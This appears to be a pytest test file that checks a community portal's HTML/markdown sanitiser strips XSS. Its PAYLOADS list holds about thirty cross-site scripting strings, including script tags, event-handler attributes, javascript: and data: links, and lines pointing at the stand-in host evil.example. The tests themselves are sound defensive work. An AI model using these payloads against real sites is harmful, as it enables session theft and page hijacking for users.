"""The sanitiser against XSS payloads: nothing executable survives rendering."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from portal.community.markup import ALLOWED_TAGS, render, sanitize

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    '<img src="/static/a.png" onload=alert(1)>',
    "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](  javascript:alert(1))",
    "![x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    '<svg onload=alert(1)><circle r="10"/></svg>',
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>body{background:url('https://evil.example/x')}</style>",
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example"><input name=a></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "<<script>script>alert(1)<</script>/script>",
    '<img src="x" <script>alert(1)</script>',
    '<a href="https://ok.example" onclick="alert(1)">ok</a>',
    "<scr<script>ipt>alert(1)</script>",
    "<!--<script>alert(1)//-->",
    '"><img src=x onerror=alert(1)>',
    "<details open ontoggle=alert(1)>",
    '<base href="https://evil.example/">',
]

ALLOWED_SCHEMES = ("http:", "https:", "mailto:")


class _Elements(HTMLParser):
    """Collects the real elements and attributes of the output (text is harmless)."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, attrs))


def assert_harmless(html: str) -> None:
    parser = _Elements()
    parser.feed(html)
    for tag, attrs in parser.found:
        assert tag in ALLOWED_TAGS, html
        for name, value in attrs:
            assert not name.startswith("on") and name != "style", html
            if name in ("href", "src"):
                target = (value or "").strip().lower()
                assert target.startswith(ALLOWED_SCHEMES) or (
                    target.startswith("/") and not target.startswith("//")
                ), html
            if tag == "img" and name == "src":
                assert (value or "").startswith("/"), html


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_neutralised(payload):
    rendered = render(payload)
    assert_harmless(rendered)
    assert_harmless(sanitize(payload))
    # What the payload tried to run is never an element: at most escaped text.
    assert "<script" not in rendered.lower() and "<svg" not in rendered.lower()


def test_raw_html_tags_are_removed_by_the_sanitiser():
    assert sanitize('<a href="javascript:alert(1)">x</a>') == '<a rel="nofollow ugc noopener">x</a>'
    assert sanitize("<svg onload=alert(1)>") == ""
    assert "onclick" not in sanitize('<a href="https://ok.example" onclick="alert(1)">ok</a>')
    assert sanitize("<script>alert(1)</script>") == ""


def test_links_get_nofollow_ugc_noopener():
    html = render("[shop](https://shop.example/item)")
    assert 'href="https://shop.example/item"' in html
    assert 'rel="nofollow ugc noopener"' in html


def test_images_only_from_this_site():
    assert 'src="/static/favicon.svg"' in render("![logo](/static/favicon.svg)")
    foreign = render("![tracker](https://evil.example/pixel.png)")
    assert "evil.example" not in foreign
    assert "evil.example" not in render("![t](//evil.example/p.png)")


def test_markdown_still_works():
    html = render("# Title\n\n**bold** and *it*\n\n- one\n- two\n\n`code`\n\n> quote")
    assert "<h3>Title</h3>" in html
    assert "<strong>bold</strong>" in html and "<em>it</em>" in html
    assert "<li>one</li>" in html and "<code>code</code>" in html
    assert "<blockquote>" in html


def test_raw_html_is_shown_as_text():
    assert "&lt;b&gt;hi&lt;/b&gt;" in render("<b>hi</b>")
